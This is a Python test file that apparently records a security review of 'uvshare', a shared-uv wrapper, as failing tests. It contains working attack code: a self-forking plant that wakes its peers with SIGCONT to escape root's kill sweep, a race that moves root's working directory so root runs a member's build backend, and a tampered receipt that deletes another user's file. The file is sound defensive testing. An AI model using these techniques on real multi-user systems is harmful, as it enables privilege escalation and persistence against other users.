"""An independent attack review of issue 21's change, as tests: each one is an attack that succeeds on the code as
reviewed (so each test fails there), within what the README's trust model promises."""

from __future__ import annotations

import os
import pwd
import subprocess
import time

from tests.support.harness import INSTALLER, Sandbox
from tests.test_root_through_uv import HOW, alive_as, marks_file, plant, shared_python

# The run's processes keep one another running: each sends SIGCONT to the others without pause, so when root's
# sweep (kill_descendants, the subreaper path) stops them one after another, one still running wakes those stopped
# before it — and a stopped process is never stopped again by the sweep. A woken one goes on forking children; one
# forked after the sweep's last listing of /proc is never found, never killed, and outlives root's command. Each child
# notes its pid only once its parent is gone (killed by the sweep) and it is still alive: a survivor. The plant ends
# by itself after 15 s (and waits for its children), so a failing run leaves nothing behind for long.
WAKE_EACH_OTHER = (
    "import os\nif os.getuid() != 0 and os.fork() == 0:\n"
    "    import signal, time\n"
    "    os.setsid()\n"
    "    null = os.open('/dev/null', os.O_RDWR)\n"
    "    for fd in (0, 1, 2):\n        os.dup2(null, fd)\n"
    "    group = [os.getpid()]\n"
    "    for _ in range(3):\n"
    "        pid = os.fork()\n"
    "        if pid == 0:\n            break\n"
    "        group.append(pid)\n"
    "    me = os.getpid()\n"
    "    end = time.monotonic() + 15\n"
    "    later = 0.0\n"
    "    while time.monotonic() < end:\n"
    "        for p in group:\n"
    "            try:\n                os.kill(p, signal.SIGCONT)\n"
    "            except OSError:\n                pass\n"
    "        now = time.monotonic()\n"
    "        if now >= later:\n"
    "            later = now + 0.008\n"
    "            if os.fork() == 0:\n"
    "                until = time.monotonic() + 0.2\n"
    "                while time.monotonic() < until:\n"
    "                    time.sleep(0.005)\n"
    "                    if os.getppid() != me:\n"
    "                        open({marks!r}, 'a').write(str(os.getpid()) + '\\n')\n"
    "                        time.sleep(30)\n"
    "                        break\n"
    "                os._exit(0)\n"
    "        try:\n"
    "            while os.waitpid(-1, os.WNOHANG)[0]:\n                pass\n"
    "        except ChildProcessError:\n            pass\n"
    "    try:\n"
    "        while True:\n            os.wait()\n"
    "    except ChildProcessError:\n        pass\n"
    "    os._exit(0)\n"
)


def test_the_subreapers_sweep_is_outrun_by_processes_that_wake_each_other(box1: Sandbox) -> None:
    """Finding 1 (the subreaper path: no CAP_SYS_ADMIN, as in a chroot-isolated or Docker build): a member's code in
    a shared Python, started by root's `python list` as the install-user, outlives root's command — the sweep stops
    each process once, and a process of the same uid may wake it again (SIGCONT). The README promises that nothing
    the run starts outlives root's command, whether root may make a PID namespace or not."""
    box = box1
    marks = marks_file(box)
    uid = pwd.getpwnam(INSTALLER).pw_uid
    lib = shared_python(box)
    alive: list[int] = []
    tries = 0
    while not alive and tries < 10:  # a race: the sweep's loop against the run's; won within a few tries
        tries += 1
        plant(box, lib, WAKE_EACH_OTHER.format(marks=str(marks)))
        box.ok("root", *HOW["no-sys-admin"], "uvshare", "python", "list")
        time.sleep(1.0)
        left = [int(p) for p in marks.read_text().split()]
        alive = [p for p in left if alive_as(p, uid)]
    for p in alive:  # what this test's plant started: the test may end it
        os.kill(p, 9)
    assert not alive, f"the install-user's processes {alive} outlived root's command (try {tries})"


def test_the_namespace_path_holds_against_the_same_plant(box1: Sandbox) -> None:
    """Control for finding 1: where root may make a PID namespace, the same plant leaves nothing behind (so the
    plant itself is not what makes finding 1's test fail)."""
    box = box1
    marks = marks_file(box)
    uid = pwd.getpwnam(INSTALLER).pw_uid
    plant(box, shared_python(box), WAKE_EACH_OTHER.format(marks=str(marks)))
    box.ok("root", "uvshare", "python", "list")
    time.sleep(1.0)
    left = [int(p) for p in marks.read_text().split()]
    alive = [p for p in left if alive_as(p, uid)]
    for p in alive:
        os.kill(p, 9)
    assert not alive, alive


BACKEND_PYPROJECT = """[project]
name = "app"
version = "0.1"
requires-python = ">=3.8"

[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]

[tool.uv]
no-index = true
"""
# A build backend in the project's own dir: uv imports it, as whoever runs uv, to build the project.
BACKEND = "import os\nopen({marks!r}, 'a').write(str(os.getuid()) + '\\n')\n"


def test_a_member_moves_roots_current_dir_out_of_the_team_project_dir(box1: Sandbox) -> None:
    """Finding 2 (rule 1, the current dir): root's shell is in alice's project in the team project dir, where
    uvshare refuses root's uv. alice renames that dir (hers, in a dir the group writes) out of the project dir, into
    her home on the same filesystem: root's current dir, the same inode, is now outside every fenced dir by the
    kernel's walk, and root's `uv sync` there runs alice's in-tree build backend as root. Root never named the
    member's dir: it is still where its shell went, by its prompt ($PWD) and by what root chose."""
    from tests.test_team_projects import team_box

    box = box1
    project_dir, _wheels = team_box(box)
    marks = marks_file(box)
    app = project_dir / "app"
    box.ok("alice", "sh", "-c", 'mkdir "$1" && cat > "$1/pyproject.toml"', "sh", app, input=BACKEND_PYPROJECT)
    box.ok("alice", "sh", "-c", 'cat > "$1/backend.py"', "sh", app, input=BACKEND.format(marks=str(marks)))
    # the rule as promised: root's uv in the team project dir is refused, and runs nothing
    refused = box.run("root", "uvshare", "sync", "--python", "/usr/bin/python3", cwd=app)
    assert refused.returncode == 2 and "team project dir" in refused.stderr, str(refused)
    assert not marks.read_text()
    # root is in the dir; alice moves it out meanwhile; root runs uv there
    ready, moved = box.root / "root-is-in", box.root / "moved"
    elsewhere = box.home(box.users["alice"]) / "app"
    root_sh = (
        f'cd "{app}" && touch "{ready}" && while [ ! -e "{moved}" ]; do sleep 0.1; done; '
        "exec uvshare sync --python /usr/bin/python3"
    )
    held = box.popen("root", "sh", "-c", root_sh, stderr=subprocess.PIPE)
    try:
        for _ in range(300):
            if ready.exists():
                break
            time.sleep(0.1)
        box.ok("alice", "mv", app, elsewhere)
        moved.touch()
        out, err = held.communicate(timeout=300)
    finally:
        if held.poll() is None:
            held.kill()  # the test's own
            held.wait()
    ran = {int(u) for u in marks.read_text().split()}
    assert 0 not in ran, f"root ran alice's build backend (uids {ran}): {out}{err}"


def test_an_image_env_naming_the_shared_tool_dir_skips_the_receipt_check(box1: Sandbox) -> None:
    """Finding 3 (item 6, members' own files): the receipt check runs only when uvshare itself hands uv the shared
    tool dir. Where the environment already names it — an image's `ENV UV_TOOL_DIR=/opt/uv/tools` and
    `UV_TOOL_BIN_DIR=…` (the workaround the README says uvshare replaces, and drops for root only) — a member's
    command is on the very same shared tool dir, yet uvshare treats the dir as the caller's own and checks nothing:
    alice's edited receipt makes bob's ordinary `uv tool uninstall` delete bob's own 0600 file."""
    from tests.support.wheels import tool_install_args, wheels_dir
    from tests.test_receipts import bobs_own_file, point_receipt_at

    box = box1
    wheels = wheels_dir(box.root / "wheels", ("hello-a", "1.0"))
    notes = bobs_own_file(box)
    box.ok("root", "uvshare", "share", "setup")
    box.ok("alice", *tool_install_args(wheels, "hello-a"))
    point_receipt_at(box, "hello-a", notes)
    image_env = {"UV_TOOL_DIR": str(box.shared / "tools"), "UV_TOOL_BIN_DIR": str(box.shared / "tool-bin")}
    # without the variables, the check holds (the promise as tested in test_receipts.py)
    assert box.run("bob", "uvshare", "tool", "uninstall", "hello-a").returncode == 2
    assert notes.exists()
    result = box.run("bob", "uvshare", "tool", "uninstall", "hello-a", env=image_env)
    assert notes.exists(), f"bob's own file is gone: {result}"
